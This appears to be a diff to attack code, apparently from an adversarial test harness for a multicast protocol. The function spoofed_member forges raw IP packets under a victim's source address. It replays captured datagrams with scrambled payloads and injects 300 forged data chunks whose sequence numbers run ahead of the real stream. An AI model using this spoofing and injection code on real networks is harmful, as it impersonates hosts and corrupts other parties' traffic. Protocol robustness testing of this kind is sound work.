@@ -179,11 +179,14 @@ def spoofed_member(ctx, found: list[dict]) -> int:
         for datagram in captured:
             worse = datagram[:HEADER] + bytes(b ^ 0x5A for b in datagram[HEADER:])
             sent += raw.sendto(_ip_packet(victim_address, group, worse), (group[0], 0)) > 0
-        # And the tag, for what comes later: a chunk far ahead of the true one.
-        for datagram in captured[:1]:
+        # And for operations that are not called yet: garbage that would lie in wait for them.
+        for datagram in [d for d in captured if d[6] == DATA][:1]:
+            (sequence,) = struct.unpack_from("<I", datagram, 16)
             for chunk in range(300):
-                head = datagram[4:24] + struct.pack("<I", chunk) + datagram[28:HEADER]
-                later = datagram[:4] + head + bytes(1000)
+                place = (
+                    struct.pack("<I", sequence + 20) + datagram[20:24] + struct.pack("<I", chunk)
+                )
+                later = datagram[:16] + place + datagram[28:HEADER] + bytes(1000)
                 sent += raw.sendto(_ip_packet(victim_address, group, later), (group[0], 0)) > 0
     return sent
 
